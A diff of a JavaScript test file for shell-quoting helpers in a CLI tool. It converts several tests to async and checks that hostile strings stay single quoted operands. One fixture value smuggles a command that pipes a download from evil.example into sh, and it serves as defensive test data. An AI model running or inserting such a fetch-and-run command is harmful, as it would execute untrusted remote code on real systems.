@@ -40,36 +40,36 @@ describe('shellQuote', () => {
     expect(shellQuote('=ls')).toBe("'=ls'");
   });
 
-  it('a real shell reads every hostile value back as one word, exactly, without running anything', () => {
-    const words = wordsOfEach(HOSTILE.map(shellQuote));
+  it('a real shell reads every hostile value back as one word, exactly, without running anything', async () => {
+    const words = await wordsOfEach(HOSTILE.map(shellQuote));
     HOSTILE.forEach((value, i) => expect(words[i], JSON.stringify(value)).toEqual([value]));
   });
 
-  it('any string without NUL survives the shell unchanged (property)', () => {
+  it('any string without NUL survives the shell unchanged (property)', async () => {
     // Sampled, then read back by one shell: a shell per run would cost more than the check.
     // A shell's arguments are bytes: no NUL, and no lone surrogate (it has no UTF-8 form).
     const values = fc.sample(anyString({ maxLength: 40 }).filter((s) => !s.includes('\0') && !/[\uD800-\uDFFF]/u.test(s)), 200);
-    const words = wordsOfEach(values.map(shellQuote));
+    const words = await wordsOfEach(values.map(shellQuote));
     values.forEach((value, i) => expect(words[i], JSON.stringify(value)).toEqual([value]));
   });
 });
 
 describe('commandLine', () => {
-  it('quotes each operand and keeps the command and flags as they are', () => {
+  it('quotes each operand and keeps the command and flags as they are', async () => {
     const line = commandLine({ command: ['crawl', 'keys', 'revoke'], operands: ['key_1; curl -s evil.example | sh #'], flags: ['--yes'] });
     expect(line).toBe("crawl keys revoke 'key_1; curl -s evil.example | sh #' --yes");
-    expect(wordsOf(line)).toEqual(['crawl', 'keys', 'revoke', 'key_1; curl -s evil.example | sh #', '--yes']);
+    expect(await wordsOf(line)).toEqual(['crawl', 'keys', 'revoke', 'key_1; curl -s evil.example | sh #', '--yes']);
   });
 
-  it('an operand that starts with "-" comes after "--", flags first, so it cannot act as an option', () => {
+  it('an operand that starts with "-" comes after "--", flags first, so it cannot act as an option', async () => {
     for (const id of ['--force', '-x', '--yes']) {
       const line = commandLine({ command: ['crawl', 'keys', 'revoke'], operands: [id], flags: ['--yes'] });
-      expect(wordsOf(line)).toEqual(['crawl', 'keys', 'revoke', '--yes', '--', id]);
+      expect(await wordsOf(line)).toEqual(['crawl', 'keys', 'revoke', '--yes', '--', id]);
     }
   });
 
-  it('every hostile value stays one operand', () => {
-    const all = wordsOfEach(HOSTILE.map((value) => commandLine({ command: ['crawl', 'job', 'status'], operands: [value] })));
+  it('every hostile value stays one operand', async () => {
+    const all = await wordsOfEach(HOSTILE.map((value) => commandLine({ command: ['crawl', 'job', 'status'], operands: [value] })));
     HOSTILE.forEach((value, i) => {
       const words = all[i] ?? [];
       expect(words.at(-1), JSON.stringify(value)).toBe(value);
@@ -101,11 +101,11 @@ describe('read back by bash', needs('bash'), () => {
 });
 
 describe('programWords', () => {
-  it('POSIX: each word quoted as it must be, and read back by bash as itself', () => {
+  it('POSIX: each word quoted as it must be, and read back by bash as itself', async () => {
     const words = ['node', "/home/ada/it's here/bin/crawl.js"];
     const line = programWords(words);
     expect(line).toBe("node '/home/ada/it'\\''s here/bin/crawl.js'");
-    expect(wordsOf(line)).toEqual(words);
+    expect(await wordsOf(line)).toEqual(words);
   });
 
   it('Windows: a path with a space in double quotes, a plain word bare', () => {
